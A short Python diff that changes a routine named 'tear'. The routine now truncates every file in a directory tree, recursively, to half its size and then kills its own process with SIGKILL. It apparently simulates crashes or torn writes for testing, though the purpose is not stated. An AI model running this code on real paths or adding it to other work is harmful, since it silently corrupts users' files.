@@ -73,7 +73,8 @@ if stage and log:
     sys.addaudithook(note)
 
 def tear(place):
-    for path in [place] if os.path.isfile(place) else (os.path.join(place, name) for name in os.listdir(place)):
+    inside = (os.path.join(folder, name) for folder, _, names in os.walk(place) for name in names)
+    for path in [place] if os.path.isfile(place) else inside:
         os.truncate(path, os.path.getsize(path) // 2)
     os.kill(os.getpid(), signal.SIGKILL)
 
